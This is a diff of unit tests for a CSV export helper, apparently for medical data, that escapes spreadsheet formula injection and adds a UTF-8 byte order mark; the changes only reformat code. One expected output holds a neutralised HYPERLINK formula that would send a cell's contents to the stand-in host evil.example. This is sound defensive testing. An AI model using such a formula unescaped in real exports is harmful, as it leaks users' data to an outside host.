@@ -18,7 +18,16 @@ describe("csvCell", () => {
   });
 
   it("leaves text that cannot start a formula as it is", () => {
-    for (const cell of ["Essential hypertension", "T 39.1 °C", "Zoé Müller-Ørsted", "a=b", "x-ray", "", "'quoted already", " =not a formula to Excel"]) {
+    for (const cell of [
+      "Essential hypertension",
+      "T 39.1 °C",
+      "Zoé Müller-Ørsted",
+      "a=b",
+      "x-ray",
+      "",
+      "'quoted already",
+      " =not a formula to Excel",
+    ]) {
       expect(csvCell(cell)).toBe(cell);
     }
   });
@@ -54,7 +63,10 @@ describe("csvCell", () => {
 
 describe("toCsv", () => {
   it("starts with a UTF-8 byte order mark, so that Excel reads °C and accents right", () => {
-    const csv = toCsv([["vital", "value"], ["Température", "38.5 °C"]]);
+    const csv = toCsv([
+      ["vital", "value"],
+      ["Température", "38.5 °C"],
+    ]);
     expect(csv.startsWith(BOM)).toBe(true);
     expect([...Buffer.from(csv, "utf8").subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
     expect(csv.slice(1)).toBe("vital,value\nTempérature,38.5 °C\n");
@@ -71,7 +83,7 @@ describe("toCsv", () => {
       BOM +
         "code,description,count\n" +
         'I10,"\'=HYPERLINK(""https://evil.example/?""&A1,""Open"")",3\n' +
-        "'@SUM(1+1),\"Fever, \"\"chills\"\"\nand rigors\",-2\n" +
+        '\'@SUM(1+1),"Fever, ""chills""\nand rigors",-2\n' +
         "'-2+3,'\t=1+1,0\n",
     );
   });
